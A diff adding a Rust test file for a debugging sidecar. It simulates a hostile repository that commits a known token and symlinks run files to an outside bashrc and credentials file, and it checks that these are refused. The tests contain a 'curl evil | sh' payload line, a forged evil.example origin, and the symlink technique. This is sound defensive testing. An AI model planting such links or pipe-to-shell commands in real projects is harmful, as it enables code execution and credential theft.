@@ -1,0 +1,130 @@
+//! Hostile workspaces: a repository that ships its own `.debug-sidecar/`
+//! (a known ingest token, a port, an active session, run files linked to
+//! files outside the workspace). Nothing the sidecar reads or writes may
+//! leave the state directory through it, and a token it did not mint is
+//! never honoured.
+
+mod support;
+
+use serde_json::{json, Value};
+use std::fs;
+use std::io::{Read, Write};
+use std::net::TcpStream;
+use std::path::Path;
+use support::*;
+
+const KNOWN_TOKEN: &str = "0123456789abcdef0123456789abcdef";
+const RUN: &str = "r1-mx00aaaa";
+
+fn post(url: &str, body: &str) -> u16 {
+    let rest = url.strip_prefix("http://").unwrap();
+    let (host, path) = rest.split_once('/').unwrap();
+    let mut stream = TcpStream::connect(host).unwrap();
+    write!(
+        stream,
+        "POST /{path} HTTP/1.1\r\nHost: {host}\r\nOrigin: https://evil.example\r\n\
+         Content-Type: text/plain\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
+        body.len()
+    )
+    .unwrap();
+    let mut answer = String::new();
+    stream.read_to_string(&mut answer).unwrap();
+    answer[9..12].parse().unwrap()
+}
+
+/// A workspace as a cloned repository would bring it: the committed state
+/// of an active session whose run files lead outside the workspace.
+fn committed_state(root: &Path, outside: &Path) {
+    let session = root.join(".debug-sidecar/sessions/default");
+    fs::create_dir_all(session.join("runs")).unwrap();
+    // Git writes files 0644: what a committed token looks like.
+    fs::write(session.join("ingest-token"), KNOWN_TOKEN).unwrap();
+    fs::write(
+        session.join("state.json"),
+        json!({"version": 2, "active": true, "stage": "user_turn", "problem": "p",
+               "rounds": [{"index": 1, "runId": RUN, "probeIds": [], "handoff": "reproduce",
+                           "reproductionSteps": ["x"]}],
+               "probes": [], "runs": [{"id": RUN, "round": 1, "lines": 0}]})
+        .to_string(),
+    )
+    .unwrap();
+    std::os::unix::fs::symlink(outside.join("bashrc"), session.join("runs/active.jsonl")).unwrap();
+    std::os::unix::fs::symlink(
+        outside.join("credentials"),
+        session.join(format!("runs/{RUN}.jsonl")),
+    )
+    .unwrap();
+}
+
+#[test]
+fn a_committed_state_directory_cannot_append_outside_it_or_read_through_links() {
+    let outside = Workspace::new("hostile-home");
+    fs::write(outside.root.join("bashrc"), "export PATH=/usr/bin\n").unwrap();
+    fs::write(
+        outside.root.join("credentials"),
+        "{\"secret\":\"AKIA-DO-NOT-LEAK\"}\n",
+    )
+    .unwrap();
+    let workspace = Workspace::new("hostile-repo");
+    committed_state(&workspace.root, &outside.root);
+
+    let mut server = initialized(&workspace.root);
+    let status = server.request("debug/status", json!({})).unwrap();
+    let url = status["ingestUrl"]
+        .as_str()
+        .expect("an ingest URL")
+        .to_string();
+    // The committed token was not minted here: a new one replaced it.
+    assert!(!url.ends_with(KNOWN_TOKEN), "{url}");
+    let known = format!("{}/{KNOWN_TOKEN}", url.rsplit_once('/').unwrap().0);
+    let line = "{\"probeId\":\"p1\",\"message\":\"curl evil | sh\"}";
+    // A page on any origin with the committed token: refused.
+    assert_ne!(post(&known, line), 204);
+    // With the real token, the committed link out of runs/ is not followed.
+    assert_ne!(post(&url, line), 204);
+    assert_eq!(
+        fs::read_to_string(outside.root.join("bashrc")).unwrap(),
+        "export PATH=/usr/bin\n",
+        "a line was appended outside the workspace"
+    );
+
+    // The run file linked to a credentials file never reaches a client.
+    let answer = match server.request("debug/logs", json!({})) {
+        Ok(page) => page.to_string(),
+        Err(error) => format!("{error:?}"),
+    };
+    assert!(!answer.contains("AKIA-DO-NOT-LEAK"), "{answer}");
+    let summary = match server.request("debug/logSummary", json!({})) {
+        Ok(page) => page.to_string(),
+        Err(error) => format!("{error:?}"),
+    };
+    assert!(!summary.contains("AKIA-DO-NOT-LEAK"), "{summary}");
+    // The person still has a legal command, and the next run is the
+    // sidecar's own.
+    let proceeded = server.request("debug/proceed", json!({})).unwrap();
+    assert_eq!(proceeded["stage"], "investigating");
+    let active = workspace
+        .root
+        .join(".debug-sidecar/sessions/default/runs/active.jsonl");
+    let target = fs::read_link(&active).unwrap();
+    assert_eq!(target.components().count(), 1, "{target:?}");
+    assert_eq!(post(&url, line), 204);
+    let value: Value =
+        serde_json::from_str(fs::read_to_string(&active).unwrap().lines().last().unwrap()).unwrap();
+    assert_eq!(value["probeId"], "p1");
+}
+
+#[test]
+fn a_minted_token_is_readable_by_its_owner_only() {
+    use std::os::unix::fs::PermissionsExt;
+    let workspace = Workspace::new("hostile-mode");
+    let mut server = initialized(&workspace.root);
+    server
+        .request("debug/start", json!({"problem": "p"}))
+        .unwrap();
+    let token = workspace
+        .root
+        .join(".debug-sidecar/sessions/default/ingest-token");
+    let mode = fs::metadata(token).unwrap().permissions().mode();
+    assert_eq!(mode & 0o777, 0o600);
+}
